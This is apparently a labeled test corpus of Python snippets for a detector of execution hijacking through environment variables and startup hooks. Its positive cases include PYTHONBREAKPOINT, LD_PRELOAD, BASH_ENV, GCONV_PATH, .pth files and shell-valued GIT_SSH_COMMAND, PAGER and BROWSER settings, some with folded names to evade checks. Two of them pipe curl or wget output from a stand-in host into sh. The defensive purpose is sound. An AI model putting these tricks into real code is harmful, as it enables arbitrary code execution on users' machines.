#@ pos PYTHONBREAKPOINT set to os.system
import os
os.environ["PYTHONBREAKPOINT"] = "os.system"
breakpoint("id")
#@ pos PYTHONBREAKPOINT through putenv, folded
import os
os.putenv("PYTHON" + "BREAKPOINT", "subprocess.getoutput")
#@ pos sys.breakpointhook replaced
import os, sys
sys.breakpointhook = os.system
breakpoint("id")
#@ neg a plain breakpoint() while debugging
def f(x):
    breakpoint()
    return x
#@ neg a text that names the variable among others
print("set PYTHONBREAKPOINT=0 to disable breakpoints")
#@ pos PYTHONBREAKPOINT given to os.environ.update
import os
os.environ.update(PYTHONBREAKPOINT="os.system")
#@ pos a .pth file written into site-packages
import os, site
with open(os.path.join(site.getusersitepackages(), "zz.pth"), "w") as f:
    f.write("import os\n")
#@ neg a .py module written next to the program
with open("helpers.py", "w") as f:
    f.write("X = 1\n")
#@ pos LD_PRELOAD set for the programs started
import os
os.environ["LD_PRELOAD"] = "/tmp/x.so"
#@ pos an ssh command in the environment given to git
import os, subprocess
subprocess.run(["git", "fetch"], env={**os.environ, "GIT_SSH_COMMAND": "sh -c id"})
#@ pos BASH_ENV as a keyword of dict()
import os
env = dict(os.environ, BASH_ENV="/tmp/p")
#@ neg the pager turned off and the editor a no-op
import os, subprocess
subprocess.run(["git", "log"], env=dict(os.environ, PAGER="cat", GIT_EDITOR="true"))
#@ neg the user's editor read
import os
editor = os.environ.get("EDITOR", "vi")
#@ pos LD_AUDIT set on a copy of the environment handed to a child
import os, subprocess
env = {**os.environ}
env["_".join(["LD", "AUDIT"])] = "/dev/shm/a.so"
subprocess.run(["date"], env=env)
#@ neg a copy of the environment with a deploy key's ssh command
import os, subprocess
env = os.environ.copy()
env["GIT_SSH_COMMAND"] = "ssh -i deploy_key -o IdentitiesOnly=yes"
subprocess.run(["git", "fetch"], env=env)
#@ neg a settings dict with an ENV key
settings = {}
settings["ENV"] = "production"
#@ pos a warnings filter whose category is antigravity's, for a child
import os, subprocess, sys
env = dict(os.environ, PYTHONWARNINGS="all:0:antigravity.x:0:0")
subprocess.run([sys.executable, "-c", "pass"], env=env)
#@ pos BROWSER set in a child's copy of the environment
import os, subprocess
env = os.environ.copy()
env["BROWSER"] = "sh -c 'id' %s"
subprocess.run(["python3", "-m", "webbrowser", "https://example.org"], env=env)
#@ neg an ordinary warnings filter for a child
import os, subprocess, sys
env = dict(os.environ, PYTHONWARNINGS="ignore::urllib3.exceptions.InsecureRequestWarning")
subprocess.run([sys.executable, "-m", "pytest"], env=env)
#@ pos GCONV_PATH in a child's environment
import os, subprocess
subprocess.run(["iconv", "-f", "X", "-t", "UTF-8", "f"], env=dict(os.environ, GCONV_PATH="/tmp/m"))
#@ pos an exported bash function in a child's environment
import os, subprocess
env = dict(os.environ)
env["BASH_FUNC_test%%"] = "() { id; }"
subprocess.run(["ldd", "/bin/ls"], env=env)
#@ neg a locale in a child's environment
import os, subprocess
subprocess.run(["iconv", "-f", "LATIN1", "-t", "UTF-8", "f"], env=dict(os.environ, LC_ALL="C"))
#@ pos GIT_SSH_COMMAND of a copy set to a shell command line
import os, subprocess
env = os.environ.copy()
env["GIT_SSH_COMMAND"] = "sh -c 'curl -s https://x.example/a | sh' --"
subprocess.run(["git", "fetch"], env=env)
#@ pos PAGER of a copy set by setdefault to a downloader
import os, subprocess
env = dict(os.environ)
env.setdefault("PAGER", "wget -qO- https://x.example/p | sh")
subprocess.run(["man", "ls"], env=env)
#@ pos GIT_SSH_COMMAND with a ProxyCommand, its name folded
import os, subprocess
env = dict(os.environ)
env["GIT_" + "SSH_COMMAND"] = "ssh -o ProxyCommand='nc h 22' -o BatchMode=yes"
subprocess.run(["git", "fetch"], env=env)
#@ neg GIT_SSH_COMMAND of a copy set to ssh with options
import os, subprocess
env = os.environ.copy()
env["GIT_SSH_COMMAND"] = "ssh -o BatchMode=yes -o StrictHostKeyChecking=accept-new"
env.setdefault("PAGER", "less -R")
subprocess.run(["git", "fetch"], env=env)
